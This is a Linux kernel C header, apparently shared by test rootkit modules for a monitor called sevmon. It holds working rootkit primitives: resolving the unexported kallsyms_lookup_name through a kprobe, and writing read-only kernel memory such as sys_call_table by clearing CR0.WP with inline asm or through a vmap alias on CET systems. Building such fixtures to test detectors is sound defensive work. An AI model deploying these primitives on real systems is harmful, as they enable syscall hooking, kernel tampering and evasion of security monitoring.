/* SPDX-License-Identifier: GPL-2.0 */
/*
 * rk_common.h: the two primitives most Linux rootkits start from, shared by the sevmon test
 * rootkit modules (each module includes it; everything here is static).
 *
 *  - rk_lookup(): kallsyms_lookup_name() is not exported since 5.7. A kprobe on it makes the
 *    kprobe core resolve its address for us (kp.addr); we then call it directly.
 *  - rk_write_ro(): write to read-only kernel memory (rodata such as sys_call_table, or text).
 *    Classic way: clear CR0.WP so that ring 0 ignores the page's R/O bit. write_cr0() re-sets WP
 *    (CR pinning, 5.3+), so CR0 is written with inline asm. With CR4.CET set (user shadow
 *    stacks or kernel IBT on CET hardware) clearing WP raises #GP, so there the write goes
 *    through a temporary writable alias of the page(s) made with vmap() instead.
 */
#ifndef RK_COMMON_H
#define RK_COMMON_H

#include <linux/kernel.h>
#include <linux/kprobes.h>
#include <linux/mm.h>
#include <linux/string.h>
#include <linux/vmalloc.h>
#include <asm/processor-flags.h>

typedef unsigned long (*rk_kln_t)(const char *name);

/* Address of a kernel symbol (functions and, with CONFIG_KALLSYMS_ALL, data), or 0. */
static unsigned long __maybe_unused rk_lookup(const char *name)
{
	static rk_kln_t kln;

	if (!kln) {
		struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
		unsigned long a;

		if (register_kprobe(&kp) < 0)
			return 0;
		a = (unsigned long)kp.addr;
		unregister_kprobe(&kp);
		/* With IBT kernels, kprobes skips a leading ENDBR64: call the symbol itself. */
		if (*(u32 *)(a - 4) == 0xfa1e0ff3)
			a -= 4;
		kln = (rk_kln_t)a;
	}
	return kln(name);
}

static inline unsigned long rk_read_cr0(void)
{
	unsigned long v;

	asm volatile("mov %%cr0, %0" : "=r"(v));
	return v;
}

static inline void rk_write_cr0_raw(unsigned long v)
{
	asm volatile("mov %0, %%cr0" : : "r"(v) : "memory");
}

static inline unsigned long rk_read_cr4(void)
{
	unsigned long v;

	asm volatile("mov %%cr4, %0" : "=r"(v));
	return v;
}

/* Copy LEN bytes to DST in read-only kernel memory (kernel image: text or rodata). */
static int __maybe_unused rk_write_ro(void *dst, const void *src, size_t len)
{
	unsigned long flags, cr0;

	if (!(rk_read_cr4() & X86_CR4_CET)) {
		local_irq_save(flags);
		cr0 = rk_read_cr0();
		rk_write_cr0_raw(cr0 & ~X86_CR0_WP);
		if (len == sizeof(long) && IS_ALIGNED((unsigned long)dst, sizeof(long)))
			WRITE_ONCE(*(unsigned long *)dst, *(const unsigned long *)src);
		else
			memcpy(dst, src, len);
		rk_write_cr0_raw(cr0);
		local_irq_restore(flags);
		return 0;
	} else {
		/* At most two pages (a write may straddle a page boundary). */
		unsigned long off = offset_in_page(dst);
		struct page *pages[2];
		int n = off + len > PAGE_SIZE ? 2 : 1;
		void *va;

		if (len > PAGE_SIZE)
			return -EINVAL;
		pages[0] = virt_to_page(dst);
		pages[1] = virt_to_page((char *)dst + len - 1);
		va = vmap(pages, n, VM_MAP, PAGE_KERNEL);
		if (!va)
			return -ENOMEM;
		memcpy((char *)va + off, src, len);
		vunmap(va);
		return 0;
	}
}

#endif
